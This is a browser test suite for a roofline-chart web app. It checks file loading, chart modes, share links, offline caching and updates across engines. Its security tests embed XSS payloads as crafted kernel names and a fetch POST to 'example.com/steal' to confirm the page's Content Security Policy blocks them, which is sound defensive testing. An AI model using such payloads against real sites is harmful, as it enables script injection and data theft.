// The scenarios every engine runs, written once against adapter.mjs's interface: the first visit
// with the example, files by picker and by drop, every mode, the hover tooltip, a share link
// reopened in a fresh profile, a damaged link, a bad file, crafted names and links, no foreign
// request, labels that do not overlap, offline after one visit and the next deploy picked up.
// `scenarios(engine)` registers them with node:test; <engine>.test.mjs call it. The detailed
// Chromium tests (../*.test.mjs) go further into each feature; these check that each engine
// does the same.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { join } from 'node:path';
import { tmpdir } from 'node:os';
import { mkdtempSync, writeFileSync, readFileSync, readdirSync, cpSync, appendFileSync, rmSync } from 'node:fs';
import { startSite, SAMPLES, ROOT } from '../helpers.mjs';
import { stampPrecache } from '../../../scripts/precache.mjs';
import { waitFor, clickRole, markByRole, foreignResources, isForeign } from './adapter.mjs';
import { recordTexts, recordedTexts, overlappingTexts } from './labels.mjs';

const NCU = join(SAMPLES, 'ncu');
export const NERSC_RUN = readdirSync(NCU).filter((f) => f.startsWith('DeepLearningProfiling__')).map((f) => join(NCU, f));
const COPY_BLOCKED = join(NCU, 'nsightful__tests_copy_blocked.csv');
const FAILED_RUN = join(NCU, 'Roofline-Analysis__decodebench_results_ncu_flashinfer_paged_decode__gqa_fp8_b64_ctx4k_p64.ncu.csv');
export const fixture = (name) => readFileSync(join(ROOT, 'engine', 'tests', 'fixtures', 'links', name), 'utf8').trim();
/// The tabs by accessible name ('Memory walls' today; a shorter 'Walls' label passes too).
export const MODES = ['Classic', 'Hierarchical', 'Instruction', { re: '^(memory )?walls$' }, 'Transfers'];

const IMG = '<img src=x onerror=window.__pwned=1>';
const SCRIPT = '<script>window.__pwned=2</script>';
const CRAFTED_CSV = `kernel,time_s,flops_fp64,bytes_dram\n"${IMG}",0.001,2e9,1e8\n"${SCRIPT}",0.002,4e9,4e8\n`;
// The same kernels as a v1 link (security.test.mjs made it with `roofline link`).
const CRAFTED_FRAGMENT = 'v1.XZk7CoAwEEQ3KsTC1l7BwkIULTXJCfwcIoWkkMhGiVfxtiaQyvpV0wzDPEi8P6BBQACkUcXUsRcGJX_8-Y6okVtXlNq2btNZl5v3omRGojov8SMD6wIgJIYsp3Sc1m1e3rtuPoMD7m6-vhISa2u8vA';

// In-page readers (plain functions: the adapters send them to the page).
const tableText = () => document.querySelector('table.kernels tbody')?.innerText ?? '';
const tableHas = (re) => new RegExp(re).test(document.querySelector('table.kernels tbody')?.innerText ?? '');
/// The chart's RGBA pixels as a SHA-256 (not toDataURL: Firefox's PNG encoder gives different
/// bytes for identical pixels from one profile to the next).
const canvasPixels = async () => {
  const c = document.querySelector('#roofline-canvas');
  const data = c.getContext('2d').getImageData(0, 0, c.width, c.height).data;
  const digest = await crypto.subtle.digest('SHA-256', data);
  return `${c.width}x${c.height} ${[...new Uint8Array(digest)].slice(0, 8).map((b) => b.toString(16).padStart(2, '0')).join('')}`;
};
const chartDrawn = () => {
  const c = document.querySelector('#roofline-canvas');
  return !!(c && c.width > 0 && c.getAttribute('style'));
};
const alertText = () => {
  const a = document.querySelector('[role=alert]');
  return a && !a.hidden && a.offsetParent !== null ? a.textContent.trim() : '';
};
/// Pixels of the canvas that are not its background colour (the corner's): a drawn chart has many.
const inkedPixels = () => {
  const c = document.querySelector('#roofline-canvas');
  const d = c.getContext('2d').getImageData(0, 0, c.width, c.height).data;
  let n = 0;
  for (let i = 0; i < d.length; i += 4) if (d[i] !== d[0] || d[i + 1] !== d[1] || d[i + 2] !== d[2]) n += 1;
  return n;
};
/// Dispatches a drop of in-memory files on an element inside the app (the drop handler is on
/// the app's root and events bubble): what a browser does for files dragged from the desktop.
const dropFiles = ({ selector, files }) => {
  const dt = new DataTransfer();
  for (const f of files) dt.items.add(new File([f.text], f.name, { type: 'text/csv' }));
  document.querySelector(selector).dispatchEvent(new DragEvent('drop', { bubbles: true, cancelable: true, dataTransfer: dt }));
  return true;
};

export async function openApp(session, url) {
  await session.goto(url);
  await waitFor(session, chartDrawn, undefined, { what: 'the chart' });
  await waitFor(session, () => document.querySelectorAll('table.kernels tbody tr').length > 0, undefined, { what: 'the kernel table' });
}

/// The chart's pixels (size and hash) once two reads 150 ms apart agree: a repaint follows a
/// change by a frame or two.
export async function chart(session) {
  let last = null;
  for (let i = 0; i < 40; i++) {
    const now = await session.eval(canvasPixels);
    if (now === last) return now;
    last = now;
    await new Promise((r) => setTimeout(r, 150));
  }
  throw new Error('the chart kept changing');
}

/// Switches mode by its tab and waits until the tab says so.
async function pickMode(session, name) {
  await clickRole(session, 'tab', name);
  await waitFor(session, (n) => {
    const sel = document.querySelector('[role=tab][aria-selected=true]')?.textContent.trim() ?? '';
    return typeof n === 'string' ? sel === n : new RegExp(n.re, 'i').test(sel);
  }, name, { what: `tab ${JSON.stringify(name)} selected` });
  await waitFor(session, chartDrawn);
}

/// Waits until the recorded texts stop changing (a paint is synchronous, but it follows the
/// click by a frame or two).
async function settledTexts(session) {
  let last = -1;
  for (let i = 0; i < 40; i++) {
    const n = (await session.eval(recordedTexts)).length;
    if (n > 0 && n === last) break;
    last = n;
    await new Promise((r) => setTimeout(r, 100));
  }
  return session.eval(recordedTexts);
}

export function scenarios(engine) {
  let site;
  let tmp;
  /// No console or page errors, no request to another origin, no alert. `expected` matches
  /// console errors the test itself provoked (the CSP's reports of what it blocked).
  const clean = async (s, what, expected = null) => {
    const p = s.problems();
    if (p.consoleErrors) assert.deepEqual(p.consoleErrors.filter((m) => !expected?.test(m)), [], `${what}: console errors`);
    if (p.pageErrors) assert.deepEqual(p.pageErrors.filter((m) => !expected?.test(m)), [], `${what}: page errors`);
    if (p.requests) assert.deepEqual(p.requests.filter((u) => isForeign(u, new URL(site.url).origin)), [], `${what}: requests to another origin`);
    assert.deepEqual(await s.eval(foreignResources), [], `${what}: resources from another origin (Resource Timing)`);
    assert.equal(await s.eval(alertText), '', `${what}: no alert`);
  };
  /// A fresh profile for one test, closed after it whatever happens.
  const withProfile = async (fn) => {
    const s = await engine.newProfile();
    try {
      return await fn(s);
    } finally {
      await s.close();
    }
  };

  before(async () => {
    site = await startSite();
    tmp = mkdtempSync(join(tmpdir(), `roofline-${engine.name}-`));
    await engine.launch();
    console.log(`# ${engine.name}: ${engine.version}`);
  });
  after(async () => {
    await engine.close();
    site?.server.closeAllConnections();
    site?.server.close();
    if (tmp) rmSync(tmp, { recursive: true, force: true });
  });

  test(`${engine.name}: first visit shows the example, drawn`, () => withProfile(async (s) => {
    await openApp(s, site.url);
    assert.match(await s.eval(tableText), /ax_kernel/);
    assert.ok((await s.eval(inkedPixels)) > 2000, 'the canvas has a drawn chart');
    await clean(s, 'first visit');
  }));

  test(`${engine.name}: files by picker and by drop`, () => withProfile(async (s) => {
    await openApp(s, site.url);
    await s.setFiles('#file-input', NERSC_RUN);
    await waitFor(s, tableHas, 'Volta_hmma_implicit_gemm', { what: 'picked files in the table' });
    const picked = await chart(s);
    await s.eval(dropFiles, { selector: '#roofline-canvas', files: [{ name: 'copy_blocked.csv', text: readFileSync(COPY_BLOCKED, 'utf8') }] });
    await waitFor(s, tableHas, 'copy_blocked', { what: 'dropped file in the table' });
    assert.doesNotMatch(await s.eval(tableText), /Volta_hmma/, 'the drop replaced the dataset');
    await waitFor(s, chartDrawn);
    assert.notEqual(await chart(s), picked, 'the chart changed');
    await clean(s, 'pick and drop');
  }));

  test(`${engine.name}: every mode draws, by tab and by key`, () => withProfile(async (s) => {
    await openApp(s, site.url);
    await s.setFiles('#file-input', NERSC_RUN);
    await waitFor(s, tableHas, 'Volta_hmma');
    const seen = new Set();
    for (const name of MODES) {
      await pickMode(s, name);
      seen.add(await chart(s));
    }
    assert.equal(seen.size, MODES.length, 'a different chart per mode');
    // Key 2 is the hierarchical chart (with the focus on the page, not in a text field).
    await s.eval(() => { document.activeElement?.blur(); return true; });
    await s.press('2');
    await waitFor(s, () => document.querySelector('[role=tab][aria-selected=true]')?.textContent.trim() === 'Hierarchical', undefined, { what: 'key 2 selects Hierarchical' });
    assert.match(await s.url(), /#v1\./);
    await clean(s, 'modes');
  }));

  test(`${engine.name}: hovering a dot shows its numbers`, () => withProfile(async (s) => {
    await openApp(s, site.url);
    await s.setFiles('#file-input', NERSC_RUN);
    await waitFor(s, tableHas, 'Volta_hmma');
    const dot = await waitFor(s, () => [...document.querySelectorAll('.chart-dots li')]
      .map((li) => ({ x: +li.dataset.x, y: +li.dataset.y, text: li.textContent }))
      .find((d) => d.text.includes('Volta_hmma_implicit_gemm_fprop_fp32_nhwc_128x128x64x1')), undefined, { what: 'the hmma dot' });
    await s.hover('#roofline-canvas', dot.x, dot.y);
    const tip = await waitFor(s, () => {
      const t = document.querySelector('.tooltip');
      return t && t.offsetParent !== null ? t.innerText : '';
    }, undefined, { what: 'the tooltip' });
    assert.match(tip, /Volta_hmma_implicit_gemm/);
    assert.match(tip, /time: 65\.9 ms/, tip); // as app.test.mjs: Σ cycles / clock over 8 launches
    assert.match(tip, /bound by/);
    await clean(s, 'hover');
  }));

  test(`${engine.name}: a shared link reopens in a fresh profile with the same table and chart`, async () => {
    const shared = await withProfile(async (s) => {
      await openApp(s, site.url);
      await s.setFiles('#file-input', NERSC_RUN);
      await waitFor(s, tableHas, 'Volta_hmma');
      await pickMode(s, 'Hierarchical');
      await s.fill('#kernel-filter', 'volta|eigen');
      await waitFor(s, () => {
        const names = [...document.querySelectorAll('table.kernels td.name')].map((td) => td.title);
        return names.length > 0 && names.length < 49 && names.every((n) => /volta|eigen/i.test(n));
      }, undefined, { what: 'the filter applied' });
      await waitFor(s, chartDrawn);
      // The address follows the view: wait until it carries the filter's last keystroke.
      await new Promise((r) => setTimeout(r, 300));
      const view = { chart: await chart(s), table: await s.eval(tableText), axes: await s.eval(() => document.querySelector('#roofline-canvas').dataset.axes), url: await s.url() };
      // Copy link: the clipboard may be refused to a headless page; then the app says so.
      await s.click('#copy-link');
      const said = await waitFor(s, () => [...document.querySelectorAll('[role=status]')].map((e) => e.textContent).find((t) => /Link copied|Copy failed/.test(t)), undefined, { what: 'the copy-link feedback' });
      view.copy = said;
      await clean(s, 'before sharing');
      return view;
    });
    assert.match(shared.url, /#v1\./);
    console.log(`# ${engine.name}: Copy link said "${shared.copy}"`);
    await withProfile(async (s) => {
      await openApp(s, shared.url);
      await waitFor(s, () => document.querySelector('[role=tab][aria-selected=true]')?.textContent.trim() === 'Hierarchical');
      await waitFor(s, chartDrawn);
      assert.equal(await s.eval(() => document.querySelector('#kernel-filter').value), 'volta|eigen');
      assert.equal(await s.eval(tableText), shared.table, 'same table');
      assert.equal(await s.eval(() => document.querySelector('#roofline-canvas').dataset.axes), shared.axes, 'same axes');
      assert.equal(await chart(s), shared.chart, 'identical canvas pixels');
      await clean(s, 'reopened link');
    });
  });

  test(`${engine.name}: a damaged link shows role=alert and the example`, () => withProfile(async (s) => {
    const link = fixture('v1-course.txt');
    const i = Math.floor(link.length / 2);
    await s.goto(`${site.url}#${link.slice(0, i)}${link[i] === 'A' ? 'B' : 'A'}${link.slice(i + 1)}`);
    const alert = await waitFor(s, alertText, undefined, { what: 'the alert' });
    assert.match(alert, /cannot be opened/);
    await waitFor(s, tableHas, 'ax_kernel', { what: 'the example instead' });
  }));

  test(`${engine.name}: a bad file shows role=alert and the previous chart stays`, () => withProfile(async (s) => {
    await openApp(s, site.url);
    const before = await chart(s);
    await s.setFiles('#file-input', [FAILED_RUN]);
    const alert = await waitFor(s, alertText, undefined, { what: 'the alert' });
    assert.match(alert, /flashinfer.*line 35/s);
    assert.equal(await chart(s), before);
    assert.match(await s.eval(tableText), /ax_kernel/);
  }));

  /// Asserts the crafted names are on the page as text only and nothing of them ran.
  const assertInert = async (s) => {
    await waitFor(s, (n) => [...document.querySelectorAll('table.kernels td.name')].some((td) => td.title === n), IMG, { what: 'the crafted names' });
    await new Promise((r) => setTimeout(r, 300)); // an injected handler's turn
    const found = await s.eval(() => ({
      names: [...document.querySelectorAll('table.kernels td.name')].map((td) => ({ title: td.title, children: td.children.length })),
      pwned: window.__pwned ?? null,
      imgs: document.querySelectorAll('img').length,
      scripts: [...document.querySelectorAll('script')].map((e) => e.src || 'inline'),
      requested: performance.getEntriesByType('resource').map((e) => new URL(e.name).pathname),
    }));
    assert.deepEqual(found.names.map((n) => n.title).sort(), [IMG, SCRIPT].sort());
    assert.ok(found.names.every((n) => n.children === 0), 'name cells hold text only');
    assert.equal(found.pwned, null, 'no injected code ran');
    assert.equal(found.imgs, 0, 'no img element');
    assert.ok(found.scripts.every((src) => src.startsWith(site.url)), `only the site's scripts: ${found.scripts}`);
    assert.ok(!found.requested.some((p) => p.endsWith('/x')), 'no image request');
  };

  test(`${engine.name}: crafted names from a file and from a link execute nothing`, async () => {
    const crafted = join(tmp, 'crafted.csv');
    writeFileSync(crafted, CRAFTED_CSV);
    await withProfile(async (s) => {
      await openApp(s, site.url);
      await s.setFiles('#file-input', [crafted]);
      await assertInert(s);
      await clean(s, 'crafted file');
    });
    await withProfile(async (s) => {
      await openApp(s, `${site.url}#${CRAFTED_FRAGMENT}`);
      await assertInert(s);
      await clean(s, 'crafted link');
    });
  });

  test(`${engine.name}: the CSP blocks inline scripts and foreign connections`, () => withProfile(async (s) => {
    await openApp(s, site.url);
    const r = await s.eval(async () => {
      const violations = [];
      document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective || e.effectiveDirective));
      const el = document.createElement('script');
      el.textContent = 'window.__inline = 1';
      document.body.appendChild(el);
      let fetched = 'allowed';
      try {
        await fetch('https://example.com/steal', { method: 'POST', body: 'x' });
      } catch {
        fetched = 'blocked';
      }
      await new Promise((done) => setTimeout(done, 200));
      return { inline: window.__inline ?? null, fetched, violations };
    });
    assert.equal(r.inline, null, 'the inline script did not run');
    assert.equal(r.fetched, 'blocked');
    assert.ok(r.violations.some((v) => v.startsWith('script-src')), `violations: ${r.violations}`);
    assert.ok(r.violations.includes('connect-src'), `violations: ${r.violations}`);
    await clean(s, 'CSP', /Content Security Policy|Content-Security-Policy|CSP/);
  }));

  test(`${engine.name}: chart texts never overlap as this engine draws them, even in a wider font`, (t) => withProfile(async (s) => {
    await openApp(s, site.url);
    await s.setFiles('#file-input', NERSC_RUN);
    await waitFor(s, tableHas, 'Volta_hmma');
    const found = [];
    let condensed = 0;
    let wouldOverlap = 0;
    for (const wider of [false, true]) {
      for (const name of [...MODES, 'Classic']) {
        await s.eval(recordTexts, { wider });
        await pickMode(s, name);
        const texts = await settledTexts(s);
        assert.ok(texts.length >= 8, `${JSON.stringify(name)}: texts recorded (${texts.length})`);
        assert.ok(texts.every((x) => x.maxWidth !== null), 'every text is drawn with a maxWidth');
        const label = `${wider ? 'bold, ' : ''}${JSON.stringify(name)}`;
        found.push(...overlappingTexts(texts).map((o) => `${label}: ${o}`));
        condensed += texts.filter((x) => x.width > x.maxWidth + 0.5).length;
        wouldOverlap += overlappingTexts(texts, { natural: true }).length;
      }
    }
    assert.deepEqual(found, [], 'overlapping texts');
    // How much maxWidth did (printed: it depends on the data and the fonts installed).
    t.diagnostic(`${condensed} texts condensed to their boxes; without maxWidth ${wouldOverlap} pairs would overlap`);
  }));

  /// Takes the network away: the engine's own offline switch, and where that does not cover the
  /// service worker (see each adapter), the site's server dropping every connection as well.
  /// Returns whether the switch covers the worker (then nothing at all may reach the server).
  const goOffline = async (s) => {
    const scope = await s.setOffline(true);
    if (scope !== 'page and worker') site.reachable = false;
    return scope === 'page and worker';
  };
  const goOnline = async (s) => {
    site.reachable = true;
    await s.setOffline(false);
  };
  /// The requests that reached the server since `from`, less the two that an engine whose offline
  /// switch leaves the worker online still makes (both fail, as the server drops them): the
  /// worker asking for a newer page (network first, as Perfetto does) and the browser's update
  /// check of sw.js.
  const unexpectedRequests = (from, strict) => site.requests.slice(from)
    .filter((u) => strict || (!/^\/roofline\/(index\.html)?(\?.*)?$/.test(u) && !/^\/roofline\/sw\.js(\?.*)?$/.test(u)));

  test(`${engine.name}: offline after one visit: reload, a sample file, a built-in example`, async (t) => {
    await withProfile(async (s) => {
      await openApp(s, site.url);
      if (!(await s.eval(() => 'serviceWorker' in navigator))) {
        t.skip(`${engine.version} has no service workers: the site works online only`);
        return;
      }
      await waitFor(s, () => navigator.serviceWorker.controller !== null, undefined, { what: 'the service worker in control', timeout: 30000 });
      const from = site.requests.length;
      const strict = await goOffline(s);
      try {
        await s.reload();
        await waitFor(s, chartDrawn, undefined, { what: 'the chart, offline' });
        await waitFor(s, tableHas, 'ax_kernel');
        await s.setFiles('#file-input', [COPY_BLOCKED]);
        await waitFor(s, tableHas, 'copy_blocked', { what: 'a sample file, offline' });
        assert.ok((await s.eval(inkedPixels)) > 2000, 'the chart draws');
        // A built-in example is fetched from the site: offline, from the worker's cache. (Clicked
        // in the page: the picker may sit in a closed menu, which is the layout's business.)
        await s.eval((sel) => { document.querySelector(sel)?.click(); return true; }, await waitFor(s, markByRole, { role: 'button', name: { re: '^Omniperf: vcopy on MI200' } }));
        await waitFor(s, tableHas, 'vecCopy', { what: 'the Omniperf example, offline' });
        const served = await s.eval(() => performance.getEntriesByType('resource').map((e) => ({ url: e.name, worker: e.workerStart > 0 })));
        assert.ok(served.length >= 3, JSON.stringify(served));
        if (served.some((r) => r.worker)) {
          // Resource Timing's workerStart: every file of the page went through the worker.
          assert.deepEqual(served.filter((r) => !r.worker), [], 'resources that did not come from the service worker');
        } else {
          // Firefox and WebKitGTK report workerStart 0 even for responses from a worker; the
          // server's log below shows none of these files was asked for: they came from the cache.
          t.diagnostic(`${engine.version} reports no workerStart; the server log is the evidence`);
        }
        assert.deepEqual(unexpectedRequests(from, strict), [], `requests that reached the network while offline${strict ? '' : ' (beyond the page check and sw.js update check)'}`);
        await clean(s, 'offline');
      } finally {
        await goOnline(s);
      }
    });
  });

  test(`${engine.name}: a new deploy is picked up on the next visit, with an "updated" notice`, async (t) => {
    // The next deploy: a copy of this build with one file changed, stamped again as postbuild does.
    const next = join(tmp, 'next');
    cpSync(site.root, next, { recursive: true });
    appendFileSync(join(next, 'examples', 'README.md'), '\nA later deploy.\n');
    const { version } = stampPrecache(next);
    const first = site.root;
    try {
      await withProfile(async (s) => {
        await openApp(s, site.url);
        if (!(await s.eval(() => 'serviceWorker' in navigator))) {
          t.skip(`${engine.version} has no service workers`);
          return;
        }
        await waitFor(s, () => navigator.serviceWorker.controller !== null, undefined, { what: 'the service worker in control', timeout: 30000 });
        const build = () => document.querySelector('meta[name="roofline-build"]')?.content;
        const old = await s.eval(build);
        assert.notEqual(old, version);
        assert.equal(await s.eval(() => document.querySelector('.update-notice')), null, 'no notice on a first visit');
        site.root = next;
        await s.reload();
        await waitFor(s, chartDrawn);
        assert.equal(await s.eval(build), version, 'the next visit runs the new build');
        const notice = await waitFor(s, () => document.querySelector('.update-notice[role=status]')?.textContent, undefined, { what: 'the updated notice' });
        assert.match(notice, /updated/i);
        await clickRole(s, 'button', 'Dismiss the update notice');
        await waitFor(s, () => document.querySelector('.update-notice') === null, undefined, { what: 'the notice dismissed' });
        // The new worker installs and caches the new build; offline, the new build is what opens.
        // (Its cache exists from the start of its install: wait until the install is over and
        // the cache holds the page.)
        await waitFor(s, async (v) => {
          const reg = await navigator.serviceWorker.getRegistration();
          const name = (await caches.keys()).find((k) => k.endsWith(` ${v}`));
          return !reg.installing && !reg.waiting && reg.active?.state === 'activated' && !!name
            && !!(await (await caches.open(name)).match('index.html'));
        }, version, { what: 'the new build installed and active', timeout: 30000 });
        const from = site.requests.length;
        const strict = await goOffline(s);
        try {
          await s.reload();
          await waitFor(s, chartDrawn, undefined, { what: 'the chart, offline' });
          assert.equal(await s.eval(build), version, 'offline, the cached page is the new build');
          assert.equal(await s.eval(() => document.querySelector('.update-notice')), null, 'no notice: same build as last time');
          assert.deepEqual(unexpectedRequests(from, strict), [], 'requests that reached the network while offline');
        } finally {
          await goOnline(s);
        }
      });
    } finally {
      site.root = first;
    }
  });
}

